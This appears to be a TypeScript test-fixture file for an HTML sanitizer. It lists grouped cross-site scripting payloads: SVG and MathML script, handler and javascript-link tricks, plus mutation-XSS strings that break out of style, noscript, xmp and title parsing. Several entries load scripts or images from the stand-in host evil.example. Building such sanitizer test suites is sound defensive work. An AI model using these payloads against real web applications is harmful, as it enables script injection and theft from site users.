import { makeGroup } from '../payload.ts';

/** Drawings and formulas, which HTML reads by rules of their own, and markup that changes when it is read twice. */
export const foreignMarkup = [
  ...makeGroup('SVG', {
    'a script': '<svg><script>alert(1)</script></svg>',
    'a script by reference': '<svg><script href="data:text/javascript,alert(1)"/></svg>',
    'a script by an old reference': '<svg><script xlink:href="https://evil.example/x.js"/></svg>',
    'a script with entities': '<svg><script>&#97;lert(1)</script></svg>',
    'a link': '<svg><a href="javascript:alert(1)"><text y="20">字</text></a></svg>',
    'an old link':
      '<svg><a xlink:href="javascript:alert(1)"><rect width="9" height="9"/></a></svg>',
    'a link that is set':
      '<svg><a><set attributeName="href" to="javascript:alert(1)"/><text y="20">字</text></a></svg>',
    'a link that is animated':
      '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text y="20">字</text></a></svg>',
    'a handler that is set': '<svg><set attributeName="onload" to="alert(1)"/></svg>',
    'an animation that begins': '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
    'an animation that ends': '<svg><animate onend=alert(1) attributeName=x dur=1ms></svg>',
    'a motion that repeats': '<svg><animateMotion onrepeat=alert(1) dur=1ms repeatCount=2></svg>',
    'a used drawing': '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
    'a used drawing of another host': '<svg><use href="https://evil.example/x.svg#x"/></svg>',
    'HTML inside': '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>',
    'a frame inside':
      '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
    'a picture': '<svg><image href="https://evil.example/x.png" onload=alert(1)></svg>',
    'a filter': '<svg><filter><feImage href="https://evil.example/x.png"/></filter></svg>',
    'a style': '<svg><style>*{background:url(https://evil.example/)}</style></svg>',
    'a title': '<svg><title><img src=x onerror=alert(1)></title></svg>',
    'a description': '<svg><desc><script>alert(1)</script></desc></svg>',
    'a handler element':
      '<svg xmlns:ev="http://www.w3.org/2001/xml-events"><handler ev:event="load">alert(1)</handler></svg>',
    capitals: '<SVG ONLOAD=alert(1)>',
    'slashes for spaces': '<svg/onload=alert(1)//',
    'a namespace': '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
    'an entity': '<!DOCTYPE svg [<!ENTITY x "alert(1)">]><svg onload="&x;"/>',
  }),
  ...makeGroup('MathML', {
    'a link': '<math><a xlink:href="javascript:alert(1)">字</a></math>',
    'a link on anything': '<math href="javascript:alert(1)">字</math>',
    'an action':
      '<math><maction actiontype="statusline#https://evil.example" xlink:href="javascript:alert(1)">字</maction></math>',
    'HTML inside': '<math><mtext><img src=x onerror=alert(1)></mtext></math>',
    'an annotation':
      '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
    'a handler': '<math onclick=alert(1)>字</math>',
    'a glyph': '<math><mglyph><svg onload=alert(1)></mglyph></math>',
  }),
  ...makeGroup('mutation', {
    'a style in a drawing': '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
    'a style in a formula':
      '<math></p><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
    'a table in a formula':
      '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    'a form in a form':
      '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    'a title in a drawing': '<svg><title><style><img src=x onerror=alert(1)></style></title></svg>',
    'what is shown without scripts': '<noscript><style></noscript><img src=x onerror=alert(1)>',
    'an old listing': '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>',
    'an old example': '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    'old plain text': '<noembed><p title="</noembed><img src=x onerror=alert(1)>">',
    'an old frame': '<noframes><p title="</noframes><img src=x onerror=alert(1)>">',
    'a backtick': '<img alt="``onerror=alert(1)" src=x>',
    'a drawing in a template':
      '<template><svg><p><style><g title="</style><img src=x onerror=alert(1)>">',
    'a comment in a drawing': '<svg><!--<p>--><img src=x onerror=alert(1)>',
    'characters in a drawing': '<svg><![CDATA[</svg><img src=x onerror=alert(1)>]]></svg>',
    'a paragraph that closes a drawing': '<svg><p><img src=x onerror=alert(1)>',
    'a select': '<select><template><img src=x onerror=alert(1)></template></select>',
    'a table that lets go': '<table><img src=x onerror=alert(1)></table>',
    'a list of formatting': '<a><b><i><s><u><a href=javascript:alert(1)>字',
    'a nested title': '<title><a title="</title><img src=x onerror=alert(1)>">',
  }),
];
